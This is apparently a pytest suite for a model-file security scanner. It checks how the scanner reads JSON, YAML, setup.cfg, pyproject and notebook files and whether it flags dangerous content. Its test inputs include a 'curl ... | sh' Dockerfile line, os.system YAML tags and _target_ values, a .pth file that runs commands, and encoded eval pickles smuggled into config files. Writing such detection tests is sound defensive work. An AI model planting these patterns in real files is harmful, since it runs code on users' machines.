from __future__ import annotations

import base64
import gc
import json
import pickle
import tracemalloc

import pytest
import yaml
from builders.payloads import EVAL_ONE
from hypothesis import example, given, settings
from hypothesis import strategies as st
from support.cases import check_each

from modelaudit.formats import encoded_strings
from modelaudit.languages import document_settings
from modelaudit.languages.python.analysis import analyze_source
from modelaudit.languages.settings import Setting
from modelaudit.model.limits import MIB, Limits
from modelaudit.model.outline import Outline, References
from modelaudit.model.structure import Document, UnreadReason
from modelaudit.wire import json_stream, key_set
from modelaudit.wire.base import HEAD_BYTES, DamagedError
from modelaudit.wire.documents import iterate_lines
from modelaudit.wire.json_structure import exceeds_depth, exceeds_nodes
from modelaudit.wire.json_text import has_lone_surrogate, scan_json, scan_json_lines
from modelaudit.wire.text import TextScan, decode_text


def list_names(reading) -> set[str]:
    """Return the name of each mention."""
    return {mention.name for outline in reading.of(Outline) for mention in outline.mentions}


def measure_peak(action):
    """Return the result of ``action`` and the most bytes of memory that Python allocated while it ran."""
    tracemalloc.start()
    try:
        result = action()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def get_document(reading) -> Document:
    """Return the one document that the reader yielded."""
    (document,) = reading.of(Document)
    return document


@check_each(
    "path, data, expected",
    [
        # The expected format, root, keys and number of lines.
        ("config.json", b'{"b": 1, "a": [2]}\n', ("json", "mapping", ("b", "a"), 1)),
        ("noext", b' {"b": 1}', ("json", "mapping", ("b",), 1)),
        ("noext", b'[{"b": 1}]', ("json", "sequence", (), 1)),
        ("noext", b"{% if x %}{{ y }}{% endif %}", ("text", "text", (), 1)),
        ("noext", b'{"broken": ', ("text", "text", (), 1)),
        ("noext", b"[link](https://example.org)", ("text", "text", (), 1)),
        ("x.json", b"3", ("json", "scalar", (), 1)),
        ("x.json", "\ufeff{}".encode(), ("json", "mapping", (), 1)),
        ("x.json", '{"a": "é"}\n'.encode("utf-16"), ("json", "mapping", ("a",), 1)),
        ("rows.jsonl", b'{"a": 1}\n\n{"b": 2}\n', ("json", "sequence", (), 3)),
        ("x.yaml", b"b: 1\na: [2]\n", ("yaml", "mapping", ("b", "a"), 2)),
        ("x.yml", b"- 1\n", ("yaml", "sequence", (), 1)),
        ("x.yaml", b"# nothing\n", ("yaml", "empty", (), 1)),
        ("MLmodel", b"flavors:\n  python_function: {}\n", ("yaml", "mapping", ("flavors",), 2)),
        ("a.pt!x/MLmodel", b"flavors: 1\n", ("yaml", "mapping", ("flavors",), 1)),
        ("a.zip!config.json#2", b'{"a": 1}', ("json", "mapping", ("a",), 1)),
        ("notes", b"one\ntwo", ("text", "text", (), 2)),
        ("x.md", b"# one\n", ("markdown", "text", (), 1)),
        ("run.rb", b"#!/usr/bin/env ruby\nprint(1)\n", ("text", "text", (), 2)),
    ],
)
def test_structure_of_a_text_document_states_format_root_type_keys_and_line_count(path, data, expected, read_bytes):
    document = get_document(read_bytes(data, path))
    assert (document.format, document.root, document.keys, document.lines) == expected


def test_binary_bytes_in_a_json_file_are_recognised_as_no_format(read_bytes):
    for data in (b"\x00\x01", b"ab\x00cd", bytes(range(256)), b"\xff\xfe\x00", b"\x7fELF"):
        assert read_bytes(data, "config.json").formats["config.json"] == []


def test_text_file_that_continues_with_binary_bytes_is_reported_as_damaged(read_bytes):
    for path in ("a.txt", "a.json", "a.yaml", "README.md"):
        assert UnreadReason.DAMAGED in read_bytes(b"x" * 6000 + b"\x00\x01", path).reasons()


def test_text_in_an_8_bit_encoding_is_read_as_text_with_the_defect_not_utf_8(read_bytes):
    reading = read_bytes("Licence : usage privé".encode("latin-1"), "LICENCE")
    document = get_document(reading)
    assert (document.format, document.root, document.lines) == ("text", "text", 1)
    assert [defect.kind for defect in document.defects] == ["not-utf-8"]
    assert reading.unread == []


def test_text_is_recognised_if_the_head_ends_in_the_middle_of_a_character(read_bytes):
    # The head has 4096 bytes; the two bytes of the letter are at its end and after it.
    reading = read_bytes(b"x" * 4095 + "é".encode(), "a.txt")
    assert reading.formats["a.txt"] == ["text"]
    assert reading.kinds() == set()


def test_json_file_with_invalid_content_has_the_defect_not_json_and_is_reported_as_damaged(read_bytes):
    reading = read_bytes(b"<html>\n", "config.json")
    assert reading.kinds() == {"not-json"}
    assert reading.reasons() == {UnreadReason.DAMAGED}


def test_key_that_occurs_twice_in_one_nested_mapping_of_json_or_yaml_is_a_defect(read_bytes):
    assert read_bytes(b'{"x": [{"a": 1, "a": 2}]}', "a.json").kinds() == {"duplicate-key"}
    assert read_bytes(b'{"a": 1, "b": {"a": 1}}', "a.json").kinds() == set()
    assert read_bytes(b"x:\n- {a: 1, a: 2}\n", "a.yaml").kinds() == {"duplicate-key"}
    assert read_bytes(b"a: 1\nb: {a: 1}\n", "a.yaml").kinds() == set()


def test_defect_of_a_duplicate_yaml_key_states_key_and_line(read_bytes):
    (defect,) = read_bytes(b"a: 1\nb: 2\na: 3\n", "a.yaml").defects()
    assert (defect.where.line, defect.where.key) == (3, "a")


def test_structure_of_a_yaml_document_lists_a_python_tag_with_its_line(read_fixture):
    reading = read_fixture("yaml/malicious/object-apply.yaml")
    assert get_document(reading).tags == (("!!python/object/apply:os.system", 2),)
    assert reading.kinds() == {"duplicate-key"}


def test_structure_of_a_damaged_yaml_document_lists_a_tag_before_the_damage(read_bytes):
    reading = read_bytes(b"hook: !!python/name:os.system\nlist: [1", "a.yaml")
    assert get_document(reading).tags == (("!!python/name:os.system", 1),)
    assert reading.reasons() == {UnreadReason.DAMAGED}


@check_each(
    "data, path",
    [
        (b"[" * 300 + b"]" * 300, "a.json"),
        (b'{"a":' * 300 + b"1" + b"}" * 300, "a.json"),
        (b"[" * 300 + b"]" * 300, "a.yaml"),
        (b"[0" + b",0" * 3000 + b"]", "a.json"),
        (b"[0" + b",0" * 3000 + b"]", "a.yaml"),
        (b"11\n" * 1500, "a.jsonl"),
        (b"[0,0]\n" * 600, "a.jsonl"),
        (b'"' + b"x" * 5000 + b'"', "a.json"),
        (b"x" * 5000, "a.yaml"),
        (b"x" * 5000, "a.txt"),
        (b"x" * 5000, "a.md"),
    ],
)
def test_text_document_over_a_bound_is_reported_as_unread(data, path, read_bytes):
    # The long texts of the letter x exceed the bound on bytes, all others the bound on depth or on values.
    is_long_text = set(data) <= set(b'x"')
    limits = Limits(document_bytes=7000, document_nodes=1000, document_depth=200)
    if is_long_text:
        limits = Limits(document_bytes=4000)
    assert UnreadReason.LIMIT in read_bytes(data, path, limits).reasons()


def test_yaml_alias_bomb_is_read_in_less_than_8_mib_of_memory(read_fixture):
    reading, peak = measure_peak(lambda: read_fixture("yaml/bomb/aliases.yaml"))
    assert get_document(reading).root == "mapping"
    assert peak < 8 * 1024 * 1024


def test_yaml_text_too_deep_to_search_for_python_tags_is_reported_as_unread(read_bytes):
    text = b"a: " + b"[" * 300 + b"]" * 300 + b"\nb: !!python/object/apply:os.system [a]\n"
    assert UnreadReason.LIMIT in read_bytes(text, "notes", Limits(document_depth=200)).reasons()


def test_json_with_too_many_settings_is_read_as_json_and_reported_as_partly_unread(read_bytes, monkeypatch):
    # The key ``auto_map`` selects an interpreter, and its settings have a bound below that of values in a document.
    monkeypatch.setattr(document_settings, "_MAX_SETTINGS", 3000)
    reading = read_bytes(b'{"auto_map": [0' + b",0" * 3000 + b"]}", "config.json")
    assert get_document(reading).format == "json"
    assert reading.reasons() == {UnreadReason.LIMIT}


def test_setup_cfg_over_a_bound_is_reported_as_unread_and_its_first_settings_are_mentioned(read_bytes):
    build_step = b"[options]\ncmdclass = build = a.B\n"
    many_lines = build_step + b"\n" * 20_000
    many_requirements = build_step + b"install_requires =\n" + b"  b @ https://e.invalid/b\n" * 2001
    for text in (many_lines, many_requirements):
        reading = read_bytes(text, "setup.cfg")
        assert UnreadReason.LIMIT in reading.reasons()
        assert "cmdclass" in list_names(reading)


def test_build_steps_and_requirements_under_indented_keys_of_setup_cfg_are_mentioned(read_bytes):
    text = b"[options]\n zip_safe = no\n cmdclass = build = a.B\n install_requires =\n  a == 1\n  b @ https://e.invalid/b\n"
    assert {"cmdclass", "b @ https://e.invalid/b"} <= list_names(read_bytes(text, "setup.cfg"))
    extras = b" [options]\n a = b\n [options.extras_require]\n c = d @ https://e.invalid/d\n"
    assert "d @ https://e.invalid/d" in list_names(read_bytes(extras, "setup.cfg"))


def test_command_classes_on_the_lines_after_their_key_are_a_build_step_with_a_detail(read_bytes):
    reading = read_bytes(b"[options]\ncmdclass =\n    build = a.B\n", "setup.cfg")
    details = [item.detail for outline in reading.of(Outline) for item in outline.mentions if item.name == "cmdclass"]
    assert details == ["the classes on the lines below"]


def test_package_with_the_commands_of_distutils_in_setup_cfg_is_mentioned(read_bytes):
    assert "command packages" in list_names(read_bytes(b"[global]\nCommand-Packages = evil\n", "setup.cfg"))


def test_setup_cfg_settings_whose_keys_have_mixed_case_or_a_hyphen_are_mentioned(read_bytes):
    text = b"[options]\nCmdClass = build = a.B\nInstall-Requires = b @ https://e.invalid/b\n"
    assert {"cmdclass", "b @ https://e.invalid/b"} <= list_names(read_bytes(text, "setup.cfg"))


@check_each(
    "text",
    [
        "[dependency-groups]\ndev = ['a @ https://e.invalid/a']\n",
        "[tool.poetry.dependencies]\na = {url = 'https://e.invalid/a'}\n",
        "[tool.poetry.dev-dependencies]\na = {url = 'https://e.invalid/a'}\n",
        "[tool.poetry.group.dev.dependencies]\na = [{version = '1'}, {url = 'https://e.invalid/a'}]\n",
    ],
)
def test_requirement_with_an_address_in_a_dependency_group_or_poetry_table_is_mentioned(text, read_bytes):
    assert "a @ https://e.invalid/a" in list_names(read_bytes(text.encode(), "pyproject.toml"))


def test_build_back_end_is_referenced_in_up_to_2000_folders_and_a_longer_list_is_partly_unread(read_bytes):
    for count, reasons in ((30, set()), (2001, {UnreadReason.LIMIT})):
        folders = ", ".join(f'"f{number}"' for number in range(count))
        text = f'[build-system]\nbuild-backend = "b"\nbackend-path = [{folders}]\n'
        reading = read_bytes(text.encode(), "pyproject.toml")
        (references,) = reading.of(References)
        assert [each.target for each in references.items] == [f"f{number}/b.py" for number in range(min(count, 2000))]
        assert reading.reasons() == reasons


def test_notebook_that_runs_more_files_than_the_bound_is_reported_as_partly_unread(read_bytes):
    source = "".join(f"%run m{number}.py\n" for number in range(2001))
    notebook = {"cells": [{"cell_type": "code", "source": source}], "metadata": {}, "nbformat": 4}
    assert UnreadReason.LIMIT in read_bytes(json.dumps(notebook).encode(), "a.ipynb").reasons()


def test_settings_of_a_notebook_are_freed_before_its_code_is_analysed(read_bytes, monkeypatch):
    def list_settings():
        return [each for each in gc.get_objects() if type(each) is Setting]

    settings_of_this_notebook = []

    def count_settings(source, **options):
        settings_of_this_notebook.append(len(list_settings()) - len(settings_of_other_tests))
        return analyze_source(source, **options)

    monkeypatch.setattr("modelaudit.formats.documents.notebook.reader.analyze_source", count_settings)
    cell = {"cell_type": "code", "source": ["import os\n", "os.system('id')"]}
    notebook = {"cells": [cell] * 50, "metadata": {}, "nbformat": 4}
    text = json.dumps(notebook).encode()
    settings_of_other_tests = list_settings()  # holding them keeps their number until the end of this test
    read_bytes(text, "a.ipynb")
    assert settings_of_this_notebook == [0]


def test_notebook_with_more_cells_than_the_bound_keeps_the_texts_of_the_first_ones(read_bytes, monkeypatch):
    monkeypatch.setattr("modelaudit.formats.documents.notebook.reader._MAX_CELLS", 2)
    for count, reasons in ((2, set()), (5, {UnreadReason.LIMIT})):
        cells = [{"cell_type": "code", "source": [f"import m{number}"]} for number in range(count)]
        reading = read_bytes(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4}).encode(), "a.ipynb")
        assert reading.facts("notebook") == [{"cells": str(count)}]
        assert list_names(reading) == {"m0", "m1"}
        assert reading.reasons() == reasons


def test_python_file_with_more_imports_than_the_bound_is_reported_as_partly_unread(read_bytes):
    imports = "".join(f"from .m{number} import a\n" for number in range(2001))
    assert UnreadReason.LIMIT in read_bytes(imports.encode(), "model.py").reasons()


def test_json_with_the_values_infinity_and_nan_has_no_defect(read_bytes):
    assert read_bytes(b'{"a": Infinity, "b": NaN}', "a.json").kinds() == set()


def test_json_number_of_ten_thousand_digits_is_read(read_bytes):
    assert read_bytes(b'{"a": ' + b"9" * 10_000 + b"}", "a.json").unread == []


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=6),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=4), inner, max_size=4),
    max_leaves=20,
)


def measure_depth(value: object) -> int:
    """Return how deep lists and dictionaries nest in ``value``: 0 for a scalar, 1 for an empty list."""
    if not isinstance(value, (dict, list)):
        return 0
    items = value.values() if isinstance(value, dict) else value
    return 1 + max(map(measure_depth, items), default=0)


@settings(max_examples=200, deadline=None)
@given(value=_JSON, ascii_only=st.booleans())
def test_depth_and_top_level_keys_of_generated_json_are_determined_exactly(value, ascii_only):
    text = json.dumps(value, ensure_ascii=ascii_only)
    depth = measure_depth(value)
    assert not exceeds_depth(text, depth)
    assert depth == 0 or exceeds_depth(text, depth - 1)
    assert not exceeds_nodes(text, 10_000)
    facts = scan_json([text])
    assert facts.keys == (tuple(value) if isinstance(value, dict) else ())
    assert facts.duplicates == ()


@settings(max_examples=200, deadline=None)
@given(text=st.text(st.sampled_from('"\\u{}[],:d8a0c ')))
def test_depth_of_any_text_with_quotes_and_brackets_is_measured_without_error(text):
    # The test fails if one of these raises, whether the text is valid or not.
    exceeds_depth(text * 300, 3)
    exceeds_nodes(text * 300, 3)
    try:
        value = json.loads(text)
    except ValueError:
        return
    # Of valid JSON, a mapping or a list has a depth of at least 1, and any other value the depth 0.
    assert exceeds_depth(text, 0) == isinstance(value, (dict, list))


@settings(max_examples=200, deadline=None)
@given(text=st.text(st.sampled_from("\\ud8dcD0a1")))
def test_lone_surrogate_is_found_in_any_json_string(text):
    try:
        value = json.loads(f'"{text}"')
    except ValueError:
        return
    # Python encodes a string unless it contains half of a surrogate pair.
    try:
        value.encode()
        is_encodable = True
    except UnicodeEncodeError:
        is_encodable = False
    assert has_lone_surrogate(text) == (not is_encodable)


@settings(max_examples=200, deadline=None)
@given(text=st.text(), encoding=st.sampled_from(["utf-8", "utf-16"]), lengths=st.lists(st.integers(1, 9), max_size=6))
def test_text_scan_of_utf_8_or_utf_16_gives_the_same_result_however_the_text_is_split_into_pieces(
    text, encoding, lengths
):
    data = text.encode(encoding)
    # The byte order mark of UTF-16 must be in the first piece.
    if encoding == "utf-16" and lengths:
        lengths[0] = max(2, lengths[0])

    def scan_pieces(pieces):
        """Return the encoding and the number of lines that the scan of the pieces finds, or ``"damaged"``."""
        scan = TextScan()
        try:
            for piece in pieces:
                scan.feed(piece)
            scan.finish()
        except DamagedError:
            return "damaged"
        return scan.encoding, scan.lines

    pieces, remaining = [], data
    for length in lengths:
        pieces.append(remaining[:length])
        remaining = remaining[length:]
    pieces = [piece for piece in [*pieces, remaining] if piece]
    assert scan_pieces(pieces) == scan_pieces([data] if data else [])
    if scan_pieces([data]) != "damaged":
        scan = TextScan()
        scan.feed(data)
        assert decode_text(data, scan) == data.decode("utf-8-sig" if encoding == "utf-8" else encoding)


_NAMES = st.sampled_from(["a.json", "a.jsonl", "a.yaml", "README.md", "a.txt", "noext"])


@settings(max_examples=200, deadline=None)
@given(sample=st.binary(max_size=80) | st.text(max_size=60).map(str.encode), path=_NAMES)
def test_text_documents_of_any_bytes_never_crash_the_readers(sample, path, read_bytes):
    # Any error that the reader does not report as damage or as a limit fails the test.
    read_bytes(sample, path)


@settings(max_examples=200, deadline=None)
@given(text=st.text(st.sampled_from("ab:-[]{}&*!|>'\"#%\n ,?"), max_size=40))
@example(text="*a: :")
def test_yaml_is_valid_exactly_if_pyyaml_parses_it(text, read_bytes):
    try:
        for _ in yaml.parse(text, Loader=yaml.CSafeLoader):
            pass
        is_valid = True
    except yaml.YAMLError:
        is_valid = False
    if text:
        reading = read_bytes(text.encode(), "a.yaml")
        # Some texts are recognised as another format.
        if reading.formats.get("a.yaml") == ["yaml"]:
            assert ("not-yaml" in reading.kinds()) == (not is_valid)


@pytest.mark.parametrize("path", ["a.json", "a.yaml"])
def test_key_that_occurs_twice_behind_more_keys_than_are_kept_is_a_defect(path, read_bytes, monkeypatch):
    monkeypatch.setattr(key_set, "_COMPARED_KEYS", 2000)
    monkeypatch.setattr(json_stream, "_WHOLE_VALUE", 4000)  # a larger object is read in parts
    keys = [*range(2001), "last"]
    rows = ",\n".join(f'"{key}": 1' for key in keys)
    assert "duplicate-key" not in read_bytes(f"{{{rows}}}".encode(), path).kinds()
    assert "duplicate-key" in read_bytes(f'{{{rows}, "last": 1}}'.encode(), path).kinds()


def test_wanted_json_key_is_found_in_a_table_that_arrives_in_pieces_unless_its_value_is_a_number():
    # An object of more than a thousand keys is a table, such as the word list of a tokenizer. A key of a table whose value
    # is a number counts as a word, as torch_dtype does here, and not as a setting.
    words = "".join(f'"{"w" * 300}{number}": 1, ' for number in range(1500))
    text = f'{{{words}"auto_map": {{"AutoModel": "a.B"}}, "torch_dtype": 1}}'
    facts = scan_json([text[:1000], text[1000:]], frozenset({"auto_map", "torch_dtype"}))
    assert facts.present_keys == {"auto_map"}
    assert facts.keys[-2:] == ("auto_map", "torch_dtype")


def test_auto_map_of_a_json_document_is_reported_even_if_values_after_it_exceed_a_bound(read_bytes):
    limits = Limits(document_nodes=1000)
    for values in (b"1," * 2000 + b"1", b"[" * 300 + b"]" * 300, b"[" * 5000 + b"]" * 5000):
        reading = read_bytes(b'{"auto_map": {"AutoModel": "evil.B"}, "b": [' + values + b"]}", "a.json", limits)
        assert UnreadReason.LIMIT in reading.reasons()
        assert "auto_map.AutoModel" in str(reading.structures)


_CODED_PICKLE = base64.b64encode(EVAL_ONE).decode()


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("x.yaml", f"a: 1\nb: {_CODED_PICKLE}\nc: 2\n"),
        ("x.yaml", f"a: 1\nb: |\n  {_CODED_PICKLE[:24]}\n  {_CODED_PICKLE[24:]}\nc: 2\n"),
        ("x.toml", f"[a]\nb = '{_CODED_PICKLE}'\n"),
        ("x.ini", f"[a]\nb={_CODED_PICKLE}\n"),
        ("x.csv", f"a,b\n1,{_CODED_PICKLE}\n"),
        ("notes.txt", f"see {_CODED_PICKLE}.\n"),
        ("README.md", f"see `{_CODED_PICKLE}`.\n"),
        ("x.csv", f"a,b\n1,{EVAL_ONE.hex()},{'0' * 64}\n"),
    ],
)
def test_pickle_in_base64_or_hexadecimal_digits_within_any_text_is_read(name: str, text: str, read_bytes) -> None:
    reading = read_bytes(text.encode(), name)
    assert ["pickle"] in reading.formats.values()


def test_nucleotides_that_begin_like_a_pickle_in_base64_are_no_pickle(read_bytes) -> None:
    # The letters become the bytes of PROTO, and then those of no opcode.
    reading = read_bytes(b">x\n" + b"gACCGTGATCCGGCGGATGACATCCTTGACTACATACCCATGTATGTCACGAACTTCATG\n" * 3, "x.fasta")
    assert ["pickle"] not in reading.formats.values()
    assert not reading.inner.unread


def test_pickle_in_base64_whose_import_follows_much_data_is_read(read_bytes) -> None:
    data = b"\x80\x02" + b"K\x010" * 6000 + EVAL_ONE[2:]
    assert read_bytes(f"a: {base64.b64encode(data).decode()}\n".encode(), "notes.txt").evaluates


def test_machine_program_in_base64_within_a_text_is_read_as_an_executable(read_bytes) -> None:
    program = b"\x7fELF\x02\x01\x01" + bytes(60)
    reading = read_bytes(f"a: {base64.b64encode(program).decode()}\n".encode(), "x.yaml")
    assert ["executable"] in reading.formats.values()


def test_base64_string_in_json_that_is_longer_than_its_bound_is_reported_as_unread(read_bytes, monkeypatch):
    encoded = base64.b64encode(pickle.dumps(list(range(100)))).decode()
    for string in (encoded, encoded.replace("A", "\\u0041")):  # plain, and with JSON escapes
        sample = f'{{"a": "{string}"}}'.encode()
        assert UnreadReason.LIMIT not in read_bytes(sample, "a.json").reasons()
        with monkeypatch.context() as patch:
            patch.setattr(encoded_strings, "_LONGEST_STRING", 40)
            assert UnreadReason.LIMIT in read_bytes(sample, "a.json").reasons()


@pytest.mark.parametrize(
    ("name", "ending"), [("a.json5", ",}"), ("a.json", ",}"), ("a.json", ""), ("a", ""), ("a.jsonc", "} // b")]
)
def test_pickle_in_a_base64_string_of_relaxed_or_damaged_json_is_read(name, ending, read_bytes):
    coded = base64.b64encode(EVAL_ONE).decode()
    assert read_bytes(f'{{"a": "{coded}"{ending}'.encode(), name).evaluates


def test_scan_of_many_json_lines_needs_less_than_5_bytes_of_memory_a_line():
    text = "1\n" * 40_000
    facts, peak = measure_peak(lambda: scan_json_lines([text], Limits()))
    assert peak < 5 * 40_000
    assert facts.root == "sequence"


# Two values in a line, one row only, a value over two lines, an unclosed value, and no value.
@pytest.mark.parametrize("text", ["1 2\n3", "1\n\n", "{\n}\n1", "1\n[", "", "\n"])
def test_json_lines_parser_raises_an_error_unless_at_least_two_lines_hold_one_value_each(text):
    with pytest.raises(ValueError):
        scan_json_lines([text], Limits())


def test_unicode_line_separator_does_not_end_a_json_line():
    # U+2028 does not end the first line; the second line has a duplicate key.
    assert scan_json_lines(['{"a": "\u2028"}\r\n\n {"b": 1, "b": 2}\n'], Limits()).duplicates == ("b",)


@check_each(
    "path, unit",
    [
        ("config.json", b" "),
        ("config.yaml", b"# a\n"),
        ("notes", b"a note\n"),
        ("notes.md", b"a note\n"),
        ("page.html", b"<p>a</p>\n"),
        ("template.jinja", b"{{ a }}\n"),
        ("requirements.txt", b"numpy\n"),
        ("run.sh", b"ls\n"),
        ("pyproject.toml", b"# a\n"),
        ("setup.cfg", b"# a\n"),
        (".gitattributes", b"*.bin binary\n"),
        ("config.cfg", b"# a\n"),
        ("notebook.ipynb", b" "),
        ("model.py", b"a = (\n"),
    ],
)
def test_pickle_after_a_text_that_fills_the_head_is_unclaimed_and_read(path, unit, read_bytes):
    text = unit * (HEAD_BYTES // len(unit) + 1)
    reading = read_bytes(text + EVAL_ONE, path)
    assert f"bytes {len(text)}-{len(text) + len(EVAL_ONE) - 1}" in describe_unclaimed(reading)
    assert reading.evaluates


def describe_unclaimed(reading) -> str:
    """Return the detail of the one absence for unclaimed bytes."""
    (detail,) = (each.detail for _, each in reading.inner.unread if each.reason is UnreadReason.UNCLAIMED)
    return detail


def test_bytes_after_a_git_lfs_pointer_are_unclaimed(read_bytes):
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12345\n"
    assert f"bytes {len(pointer)}-{len(pointer) + 2}" in describe_unclaimed(read_bytes(pointer + b"a\nb", "m.bin"))


def test_bytes_of_xml_that_the_parser_refuses_are_unclaimed(read_bytes):
    accepted = b"<?xml version='1.0'?><a>".ljust(2 * 65536)
    data = accepted + EVAL_ONE
    assert f"bytes {len(accepted)}-{len(data) - 1}" in describe_unclaimed(read_bytes(data, "m.xml"))


LINES = "a\nb\r\nc\rd\x0ce\u2028\n\n\r\r\n\U0001f600"


@pytest.mark.parametrize("length", range(1, 6))
def test_lines_of_a_text_in_pieces_are_those_of_the_whole_text(length):
    pieces = [LINES[start : start + length] for start in range(0, len(LINES), length)]
    assert list(iterate_lines(["", *pieces, ""], 100)) == LINES.splitlines(keepends=True)


def test_long_line_of_a_text_in_pieces_is_cut():
    assert list(iterate_lines(["abc", "de\nf", "g\n"], 4)) == ["abcd", "fg\n"]


@check_each(
    "path, text",
    [
        ("guide.md", b"[a](b)\n"),
        ("page.html", b"a" * 90_000 + b"\n"),
        (".gitattributes", b"#" * 90_000 + b"\n"),
    ],
)
def test_reading_of_a_long_text_with_one_emoji_needs_less_memory_than_three_times_its_size(path, text, read_bytes):
    # One character outside the Basic Multilingual Plane makes a whole text take four bytes a character.
    # Readers of protocol buffers would follow a text whose first byte is a key of theirs.
    data = "ok \U0001f600\n".encode() + text * (8 * MIB // len(text))
    read_bytes(b"# a\n", path)  # imports the reader
    _, peak = measure_peak(lambda: read_bytes(data, path))
    assert peak < 3 * len(data)


@check_each(
    "path, data, name",
    [
        ("Dockerfile", b"# \x01\nFROM x\nRUN curl http://e.invalid/x | sh\n", "http://e.invalid/x"),
        ("page.html", b"\x01<html>\x00<script>void 0</script></html>", "script"),
        ("a.yaml", b"# \x02\na: !!python/object/apply:os.system ['true']\n", "os.system"),
        ("a.json", b'{"a": "\x01", "_target_": "os.system"}', "os.system"),
        ("folder/run.pth", b"import os; os.system('true \x01')\n", "os.system"),
    ],
)
def test_text_with_control_characters_in_its_head_is_read_and_reported_as_damaged(path, data, name, read_bytes):
    reading = read_bytes(data, path)
    assert name in {mention.name for outline in reading.of(Outline) for mention in outline.mentions}
    assert UnreadReason.DAMAGED in reading.reasons()


def test_bytes_with_many_control_characters_are_no_text(read_bytes):
    assert read_bytes(b"text\x01\x02\x03\x04\x05\x06" * 9, "a.txt").formats["a.txt"] == []


def build_notebook(source: str, outputs: list[object]) -> bytes:
    """Return a notebook of one code cell with these outputs."""
    cell = {"cell_type": "code", "metadata": {}, "outputs": outputs, "source": source}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


@check_each(
    "source, outputs",
    [
        ("1", [{"output_type": "display_data", "data": {"application/javascript": ["void 0"]}}]),
        ("1", [{"output_type": "display_data", "data": {"text/javascript": "void 0"}}]),
        ("from IPython.display import display, Javascript as J\ndisplay(J('void 0'))", []),
        ("import IPython.core.display as d\nd.display_javascript('void 0', raw=True)", []),
    ],
)
def test_program_for_the_browser_in_a_notebook_is_reported_as_not_analysed(source, outputs, read_bytes):
    assert read_bytes(build_notebook(source, outputs), "a.ipynb").reasons() == {UnreadReason.PROGRAM}


def test_page_with_a_script_that_a_cell_shows_is_mentioned(read_bytes):
    source = "from IPython.display import HTML\nHTML('<script>void 0</script>')\nHTML('<b>text</b>')"
    reading = read_bytes(build_notebook(source, []), "a.ipynb")
    uses = [mention.use for outline in reading.of(Outline) for mention in outline.mentions]
    assert uses.count("browser-script") == 1
    assert reading.reasons() == set()
